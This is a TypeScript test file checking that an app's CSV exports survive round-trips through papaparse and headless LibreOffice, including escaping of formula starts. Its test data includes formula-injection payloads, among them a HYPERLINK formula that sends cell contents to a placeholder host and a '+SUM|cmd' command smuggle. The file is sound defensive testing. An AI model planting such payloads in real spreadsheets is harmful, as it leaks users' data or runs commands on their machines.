import { execFile } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { monthReportCsv } from '../main/office/month-report.js';
import { assetFigures } from '../renderer/src/components/records/asset-figures.js';
import { assetsCsv } from '../renderer/src/components/records/assets-csv.js';
import type { AssetCategoryView, AssetView } from './ipc.js';

// Every CSV the app writes (shared/spreadsheet.ts): the month report and the Assets view's, read
// back cell for cell by a real CSV parser (papaparse) and by LibreOffice itself (headless, Debian's
// libreoffice-calc-nogui), with cells holding what people type into details and names: line
// breaks of every kind, quotes, commas, tabs, formula starts and other scripts. One entry is one
// row, whatever its details hold.

/** Details as people type them, each as the CSV must give it back (formula starts led by an apostrophe). */
const TYPED: [string, string][] = [
  ['Level 2 east\r\nductwork hung', 'Level 2 east\r\nductwork hung'],
  ['gridlines 3–6\nhangers in', 'gridlines 3–6\nhangers in'],
  ['old Mac line\rbreak', 'old Mac line\rbreak'],
  ['the "north" riser', 'the "north" riser'],
  ['rooms 1, 2 and 3', 'rooms 1, 2 and 3'],
  ['a\ttab between', 'a\ttab between'],
  ['=HYPERLINK("http://x.example/?"&A1,"click")', `'=HYPERLINK("http://x.example/?"&A1,"click")`],
  ['+SUM(1,2)|cmd', `'+SUM(1,2)|cmd`],
  ['-2+3', `'-2+3`],
  ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
  ['\tleading tab', `'\tleading tab`],
  ['\rleading return', `'\rleading return`],
  ['東棟 3階 配管完了', '東棟 3階 配管完了'],
  ['Façade – Ελληνικά – العربية – 🏗️', 'Façade – Ελληνικά – العربية – 🏗️'],
  ['', ''],
  ['last, "all"\r\nof\nthem\rat once\t=1', 'last, "all"\r\nof\nthem\rat once\t=1'],
];

const entries = TYPED.map(([details], i) => ({
  id: `e${i}`,
  date: `2026-11-${String(i + 1).padStart(2, '0')}`,
  status: i % 3 === 0 ? 'Completed' : i % 3 === 1 ? 'In Progress' : 'On Hold',
  details,
}));

const category: AssetCategoryView = {
  id: 'c1',
  name: 'Curtain, "Wall"\nEast',
  uom: 'm',
  height: null,
  stages: [
    { _id: 's1', name: '=Anchors\r\nset', sequence: 1, color: '#000', uom: 'm', measurement: 'length' },
    { _id: 's2', name: 'Panels\thung', sequence: 2, color: '#000', uom: 'm', measurement: 'length' },
  ],
};
const assets: AssetView[] = TYPED.map((_, i) => ({
  _id: `a${i}`,
  shape: 'Polyline',
  points: [
    { x: 0, y: 0 },
    { x: 3, y: 4 },
  ],
  doNotTrack: false,
  snapshot: null,
  stages: [
    { _id: 's1', percentage: 100, date: null },
    { _id: 's2', percentage: i, date: null },
  ],
}));
const names = new Map(assets.map((a, i) => [a._id, TYPED[i]![0]]));
const assetsFile = assetsCsv(category, assets, assetFigures(category, assets), (a) => names.get(a._id)!);

/** Reads `csv` (a BOM first) as papaparse does for a spreadsheet: the rows, and its errors. */
function parsed(csv: string): { rows: string[][]; errors: unknown[] } {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const r = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: false });
  // The file ends with CRLF: papaparse gives one empty row after it.
  expect(r.data.at(-1)).toEqual(['']);
  return { rows: r.data.slice(0, -1), errors: r.errors };
}

describe('the month report read back by a CSV parser', () => {
  const { rows, errors } = parsed(monthReportCsv('2026-11', entries));

  it('gives one row per entry under the header, every cell as written', () => {
    expect(errors).toEqual([]);
    expect(rows).toHaveLength(entries.length + 1);
    expect(rows[0]).toEqual(['Date', 'Status', 'Details', 'Entry id']);
    expect(rows.slice(1)).toEqual(entries.map((e, i) => [e.date, e.status, TYPED[i]![1], e.id]));
  });

  it('quotes every cell holding a line feed, a carriage return, a quote, a comma or a tab', () => {
    const csv = monthReportCsv('2026-11', entries);
    // Outside quotes, the only line breaks are the records' own CRLFs.
    const outside = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(outside.match(/\r\n/g)).toHaveLength(entries.length + 1);
    expect(outside).not.toMatch(/[\t"]|\r(?!\n)|(?<!\r)\n/);
  });
});

describe('the Assets CSV read back by a CSV parser', () => {
  const { rows, errors } = parsed(assetsFile.csv);

  it('gives one row per asset under the header, names as written', () => {
    expect(errors).toEqual([]);
    expect(rows).toHaveLength(assets.length + 1);
    expect(rows[0]!.slice(5, 7)).toEqual(["'=Anchors\r\nset %", 'Panels\thung %']);
    expect(rows.slice(1).map((r) => [r[0], r[1], r[6]])).toEqual(
      assets.map((a, i) => [TYPED[i]![1], a._id, String(i)]),
    );
  });
});

/** LibreOffice headless: the folder's CSV files converted to CSV again, every text cell quoted; what it wrote, by file name. */
function libreOffice(dir: string, files: string[]): Promise<Map<string, string>> {
  const out = join(dir, 'out');
  return new Promise((resolve, reject) => {
    execFile(
      'soffice',
      [
        '--headless',
        '--norestore',
        `-env:UserInstallation=file://${join(dir, 'profile')}`,
        // Comma, double quote, UTF-8 (76), from line 1: the CSV as the app writes it.
        '--infilter=CSV:44,34,76,1',
        // The same out, every text cell quoted (token 7), so that a cell's line breaks survive.
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true',
        '--outdir',
        out,
        ...files.map((f) => join(dir, f)),
      ],
      // A first start of LibreOffice makes its profile: slow on a loaded machine. Past the
      // deadline the conversion is killed and the test fails with this message.
      { timeout: 120_000 },
      (err, _stdout, stderr) => {
        if (err)
          return reject(
            new Error(
              `LibreOffice (soffice, Debian's libreoffice-calc-nogui, installed by .ci/run) could not convert the CSV files: ${stderr.trim() || err.message}`,
            ),
          );
        resolve(new Map(readdirSync(out).map((f) => [f, readFileSync(join(out, f), 'utf8')])));
      },
    );
  });
}

describe('the same files opened by LibreOffice', () => {
  const dir = mkdtempSync(join(tmpdir(), 'csv-libreoffice-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  // LibreOffice keeps a cell's line breaks as LF, whichever of CRLF, LF or CR the file had.
  const asLibreOffice = (s: string) => s.replace(/\r\n?/g, '\n');

  it('reads one row per entry and per asset, every cell as written', { timeout: 180_000 }, async () => {
    writeFileSync(join(dir, 'progress-2026-11.csv'), monthReportCsv('2026-11', entries));
    writeFileSync(join(dir, 'assets.csv'), assetsFile.csv);
    const converted = await libreOffice(dir, ['progress-2026-11.csv', 'assets.csv']);
    const read = (prefix: string) => {
      const [, text] = [...converted].find(([name]) => name.startsWith(prefix))!;
      const r = Papa.parse<string[]>(text, { skipEmptyLines: true });
      expect(r.errors).toEqual([]);
      return r.data;
    };
    const month = read('progress-2026-11');
    expect(month).toHaveLength(entries.length + 1);
    expect(month.slice(1)).toEqual(entries.map((e, i) => [e.date, e.status, asLibreOffice(TYPED[i]![1]), e.id]));
    const table = read('assets');
    expect(table).toHaveLength(assets.length + 1);
    expect(table.slice(1).map((r) => [r[0], r[1]])).toEqual(assets.map((a, i) => [asLibreOffice(TYPED[i]![1]), a._id]));
  });
});
